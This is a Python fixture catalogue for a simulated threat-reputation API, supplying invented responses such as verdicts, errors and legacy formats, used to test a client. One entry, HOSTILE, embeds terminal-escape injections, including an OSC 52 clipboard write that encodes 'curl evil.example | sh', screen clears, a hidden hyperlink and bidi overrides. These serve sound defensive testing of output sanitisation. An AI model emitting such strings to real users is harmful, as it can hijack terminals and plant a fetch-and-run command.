"""The simulator's own catalogue: invented answers, in every form the reference describes.

Values come from the documentation ranges (192.0.2.0/24, 198.51.100.0/24,
203.0.113.0/24, 2001:db8::/32, `.example`), so nobody's real address appears;
engine ids, scores and dates are made up. Each entry answers in the asking
API's own shape: the score API's (`GET /api/score/...`) or v3's
(`POST /api/v3/observables/search/by-value`).

Most entries describe what Threatscore knows once (`Known`) and render it in
both shapes; the others spell out each API's reply (the "nothing known"
forms, refusals, outages and quirks).
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field
from datetime import datetime

from simulator.server import NOT_FOUND_BODY, SCORE_API, V3_API, Scripted

NO_FLAGS = {"blocklist": False, "attack": False, "scan": False, "compromission": False}


def engine_id(name: str) -> str:
    """An invented engine id: 32 lowercase hex, the same for the same name."""
    return hashlib.md5(name.encode(), usedforsecurity=False).hexdigest()


@dataclass(frozen=True)
class Known:
    """What Threatscore knows of one value, rendered in either API's shape."""

    value: str
    type: str  # XDR's type name
    level: str
    score: float
    date: str  # of the newest scoring
    engines: tuple[tuple[str, float | None, str | None], ...]  # (engine name, score, level)
    categories: tuple[str, ...] = ()
    flags: dict[str, bool] = field(default_factory=dict)
    country: tuple[str, str] | None = None  # (code, name)
    city: str | None = None
    asn: tuple[int, str] | None = None
    first_seen: str | None = None
    tags: tuple[str, ...] = ()
    epoch_ms_dates: bool = False  # v3 dates as epoch milliseconds
    v3_level: str | None = None  # v3's level word, when it differs

    def score_body(self) -> dict:
        body: dict = {
            "data": self.value,
            "types": ["ip" if self.type in ("ip", "ipv6") else self.type],
            "signature": hashlib.sha256(self.value.encode()).hexdigest(),
            "version": 20261120,
            "sources": len(self.engines),
            "scores": [
                {
                    "date": self.date,
                    "score": self.score,
                    "confidence": None,
                    "level": self.level,
                    "details": [
                        {
                            "date": self.date,
                            "engineId": engine_id(name),
                            "engineConfidence": None,
                            "level": level,
                            "score": score,
                        }
                        for name, score, level in self.engines
                    ],
                }
            ],
        }
        if self.country:
            body["geo"] = {"country": {"code": self.country[0], "name": self.country[1]}}
        if self.first_seen:
            body["firstSeen"] = self.first_seen[:10]
        body["lastSeen"] = self.date
        return body

    def v3_body(self) -> dict:
        observable: dict = {}
        if self.country or self.city:
            observable["geo"] = {
                key: value
                for key, value in (
                    ("country_name", self.country and self.country[1]),
                    ("city_name", self.city),
                )
                if value
            }
        if self.asn:
            observable["as"] = {"asn": self.asn[0], "organization_name": self.asn[1]}
        if self.first_seen:
            observable["first_seen"] = self._date(self.first_seen)
        observable["last_seen"] = self._date(self.date)
        body: dict = {
            "threatscore": {
                "value": self.score,
                "level": self.v3_level or self.level,
                "categories": list(self.categories),
                "indicators": {**NO_FLAGS, **self.flags},
            },
            "observable": observable,
            "analysis": [
                {
                    "id": engine_id(name),
                    "date": self._date(self.date),
                    **({} if score is None else {"score": score}),
                }
                for name, score, _level in self.engines
            ],
        }
        if self.tags:
            body["tags"] = list(self.tags)
        return body

    def _date(self, iso: str) -> str | int:
        if not self.epoch_ms_dates:
            return iso
        return int(datetime.fromisoformat(iso.replace("Z", "+00:00")).timestamp() * 1000)


def _score_key(score: float | None) -> dict:
    """An informational analysis row has no score at all."""
    return {} if score is None else {"score": score}


@dataclass(frozen=True)
class Entry:
    value: str
    type: str
    what: str  # in words, for the demo and the README
    score: Scripted
    v3: Scripted

    def reply(self, api: str) -> Scripted:
        return self.v3 if api == V3_API else self.score


def _known(what: str, known: Known) -> Entry:
    return Entry(
        known.value, known.type, what, Scripted(body=known.score_body()), Scripted(body=known.v3_body())
    )


def _both(value: str, observable_type: str, what: str, score: Scripted, v3: Scripted | None = None) -> Entry:
    return Entry(value, observable_type, what, score, v3 or score)


REFUSED = Scripted(
    status=403, body={"error": {"type": "Client Error", "code": "403", "message": "Blocked by IP filtering"}}
)
UNAVAILABLE = Scripted(
    status=503, body={"error": {"type": "Server Error", "code": "503", "message": "Service Unavailable"}}
)

# Strings that would act on whoever shows them: an OSC 52 clipboard write (base64 of
# "curl evil.example | sh"), screen and line clears, colours, an OSC 8 hyperlink, carriage
# returns, 8-bit C1 controls, bidirectional overrides and isolates, zero-width characters.
CLIPBOARD_WRITE = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
CLEAR_SCREEN = "\x1b[2J\x1b[H"
HOSTILE_DATE = "2026-11-25T13:13:13.000Z"
HOSTILE = _both(
    "hostile.example",
    "domain",
    "malicious: its words carry terminal escapes, carriage returns and bidi overrides",
    Scripted(
        body={
            "data": "hostile.example",
            "types": ["domain"],
            "scores": [
                {
                    "date": HOSTILE_DATE,
                    "score": 0.9,
                    "level": "\x1b[31mmalicious\x1b[0m",
                    "details": [
                        {
                            "date": HOSTILE_DATE,
                            "engineId": CLIPBOARD_WRITE + "blocklists",
                            "level": "malicious\u202e",
                            "score": 0.9,
                        },
                        {
                            "date": HOSTILE_DATE,
                            "engineId": "honeypots\r" + CLEAR_SCREEN + "\x9b2J",
                            "level": "\u2066malicious\u2069",
                            "score": 0.85,
                        },
                    ],
                }
            ],
        }
    ),
    Scripted(
        body={
            "threatscore": {
                "value": 0.9,
                "level": "\x1b[31mmalicious\x1b[0m",
                "categories": [
                    "phishing\u202egnp.exe",
                    CLIPBOARD_WRITE + "malware",
                    "spam\r\x1b[2Kcleared",
                    "\u2066isolated\u2069\u200b",
                ],
                "indicators": {**NO_FLAGS, "attack": True, "scan\x1b[8m": True},
            },
            "observable": {
                "geo": {"country_name": "Nether\x9b2Jlands", "city_name": "Amster\rdam\u2028"},
                "as": {
                    "asn": 64666,
                    "organization_name": "Evil \x1b]8;;http://evil.example\x07Corp\x1b]8;;\x07",
                },
                "first_seen": HOSTILE_DATE,
                "last_seen": HOSTILE_DATE,
            },
            "analysis": [
                {"id": "blocklists\x1b[1A\x1b[2K", "date": HOSTILE_DATE, "score": 0.9},
                {"id": CLEAR_SCREEN + "honeypots\ufeff", "date": HOSTILE_DATE, "score": 0.85},
            ],
            "tags": ["dns\u202e", "\x07bell", CLIPBOARD_WRITE],
        }
    ),
)

ENTRIES: tuple[Entry, ...] = (
    _known(
        "malicious: a malicious host on a blocklist, attacking",
        Known(
            value="198.51.100.7",
            type="ip",
            level="malicious",
            score=0.92,
            date="2026-11-20T09:12:44.301Z",
            engines=(
                ("blocklists", 0.95, "malicious"),
                ("honeypots", 0.9, "malicious"),
                ("dns", 0.7, "malicious"),
            ),
            categories=("malicious_host", "blocklist"),
            flags={"blocklist": True, "attack": True},
            country=("NL", "Netherlands"),
            city="Amsterdam",
            asn=(64500, "Example Hosting B.V."),
            first_seen="2025-03-02T17:40:00.000Z",
            tags=("dns",),
        ),
    ),
    _known(
        "suspicious: spam, six engines that disagree",
        Known(
            value="203.0.113.5",
            type="ip",
            level="suspicious",
            score=0.44026315789473686,
            date="2026-10-31T22:05:17.281Z",
            engines=(
                ("blocklists", 0.9, "malicious"),
                ("spamtraps", 0.62, "malicious"),
                ("honeypots", 0.5, "suspicious"),
                ("reputation", 0.3, "suspicious"),
                ("dns", 0.175, "safe"),
                ("passive-dns", 0.0, "safe"),
            ),
            categories=("spam", "general_business"),
            flags={"blocklist": True},
            country=("FR", "France"),
            city="Lyon",
            asn=(64501, "Example Telecom SA"),
            first_seen="2024-06-14T08:30:05.120Z",
            tags=("dns",),
        ),
    ),
    _known(
        "clean",
        Known(
            value="example.com",
            type="domain",
            level="safe",
            score=0.05,
            date="2026-11-02T11:00:00.000Z",
            engines=(("dns", 0.0, "safe"), ("reputation", 0.1, "safe"), ("certificates", 0.05, "safe")),
            first_seen="2019-01-07T00:00:00.000Z",
            tags=("dns",),
        ),
    ),
    _known(
        "malicious: a phishing URL on a compromised site",
        Known(
            value="http://phish.example/login",
            type="url",
            level="malicious",
            score=0.85,
            date="2026-11-18T03:46:00.000Z",
            engines=(("url-scanner", 0.85, "malicious"), ("blocklists", 0.85, "malicious")),
            categories=("phishing",),
            flags={"compromission": True},
            country=("US", "United States"),
            city="San Francisco",
            asn=(64502, "Example CDN, Inc."),
            first_seen="2026-11-17T20:22:00.000Z",
        ),
    ),
    _known(
        "malicious: a known malware file (md5)",
        Known(
            value="44d88612fea8a8f36de82e1278abb02f",
            type="md5",
            level="malicious",
            score=0.97,
            date="2026-09-09T09:09:09.000Z",
            engines=(("sandbox", 0.99, "malicious"), ("antivirus", 0.95, "malicious")),
            categories=("malware",),
            first_seen="2020-02-20T10:00:00.000Z",
        ),
    ),
    _known(
        "malicious: a scanner's user agent",
        Known(
            value="sqlmap/1.7",
            type="user_agent",
            level="malicious",
            score=0.8,
            date="2026-11-21T14:30:00.000Z",
            engines=(("honeypots", 0.8, "malicious"), ("waf-logs", 0.75, "malicious")),
            categories=("scanner",),
            flags={"scan": True, "attack": True},
            first_seen="2023-05-01T00:00:00.000Z",
        ),
    ),
    _both(
        "192.0.2.1",
        "ip",
        "unknown to Threatscore (no data)",
        Scripted(status=404, body=NOT_FOUND_BODY),
        Scripted(body={}),
    ),
    _both("192.0.2.66", "ip", 'refused: HTTP 403 "Blocked by IP filtering"', REFUSED),
    _both("192.0.2.50", "ip", "Threatscore unavailable: HTTP 503", UNAVAILABLE),
    # --- every other form the reference describes ---
    _both(
        "192.0.2.2",
        "ip",
        "known, not analysed yet (no verdict)",
        Scripted(body={"scores": [[]], "types": ["Unknown"], "signature": "0e1d" * 12}),
        Scripted(body={"threatscore": {"categories": [], "indicators": NO_FLAGS}, "observable": {}}),
    ),
    _both(
        "192.0.2.3",
        "ip",
        'no data, the other forms: no "scores" key / a 404 "Observable not found"',
        Scripted(body={"data": "192.0.2.3", "types": ["Unknown"], "signature": "77aa" * 16}),
        Scripted(status=404, body=NOT_FOUND_BODY),
    ),
    _both(
        "192.0.2.4",
        "ip",
        "no data, 2018's form: a bare [] (v3: an answer with no threatscore key)",
        Scripted(body=[]),
        Scripted(body={"observable": {"first_seen": "2026-01-01T00:00:00.000Z"}}),
    ),
    _known(
        "suspicious, with v3 dates as epoch milliseconds",
        Known(
            value="2001:db8::bad",
            type="ipv6",
            level="suspicious",
            score=0.5,
            date="2026-08-01T12:00:00.000Z",
            engines=(("honeypots", 0.5, "suspicious"), ("blocklists", 0.45, "suspicious")),
            categories=("malicious_host",),
            flags={"scan": True},
            first_seen="2026-07-15T06:00:00.000Z",
            epoch_ms_dates=True,
        ),
    ),
    _known(
        "suspicious, with an informational analysis row (no score)",
        Known(
            value="192.0.2.20",
            type="ip",
            level="suspicious",
            score=0.35,
            date="2026-10-10T10:10:10.000Z",
            engines=(("reputation", 0.35, "suspicious"), ("whois", None, None)),
            categories=("spam",),
        ),
    ),
    _known(
        'an unknown level word ("critical"): the verdict comes from the score',
        Known(
            value="192.0.2.21",
            type="ip",
            level="malicious",
            v3_level="critical",
            score=0.66,
            date="2026-10-11T11:11:11.000Z",
            engines=(("blocklists", 0.66, "malicious"),),
            categories=("malspam",),
            flags={"blocklist": True},
        ),
    ),
    _both(
        "legacy.example",
        "domain",
        "malicious, 2018's form: string scores, date-only dates, no engines",
        Scripted(body={"data": "legacy.example", "scores": [{"date": "2018-10-12", "score": "0.99"}]}),
        Scripted(
            body={
                "threatscore": {"value": 0.99, "level": "malicious", "categories": ["malicious_host"]},
                "observable": {"first_seen": "2018-10-12", "last_seen": "2018-10-12"},
                "analysis": [{"id": engine_id("legacy"), "date": "2018-10-12", "score": 0.99}],
            }
        ),
    ),
    _both(
        "negative.example",
        "domain",
        "clean: a negative score, and a null engine score",
        Scripted(
            body={
                "data": "negative.example",
                "types": ["domain"],
                "scores": [
                    {
                        "date": "2026-05-05T05:05:05.500Z",
                        "score": -0.5,
                        "confidence": None,
                        "level": "safe",
                        "details": [
                            {
                                "date": "2026-05-05T05:05:05.500Z",
                                "engineId": engine_id("dns"),
                                "engineConfidence": None,
                                "level": "safe",
                                "score": -0.5,
                            },
                            {
                                "date": "2026-05-05T05:05:05.500Z",
                                "engineId": engine_id("whois"),
                                "engineConfidence": None,
                                "level": None,
                                "score": None,
                            },
                        ],
                    }
                ],
            }
        ),
        Scripted(
            body={
                "threatscore": {"value": 0.0, "level": "safe", "categories": [], "indicators": NO_FLAGS},
                "analysis": [{"id": engine_id("dns"), "date": "2026-05-05T05:05:05.500Z", "score": 0.0}],
            }
        ),
    ),
    HOSTILE,
)

BY_VALUE = {entry.value: entry for entry in ENTRIES}


def catalogue_answer(value: str, api: str) -> Scripted | None:
    """The catalogue's reply to `value` on `api` (`"score"` or `"v3"`), None when it is not in it."""
    entry = BY_VALUE.get(value)
    if entry is None:
        return None
    return entry.reply(api if api in (SCORE_API, V3_API) else SCORE_API)
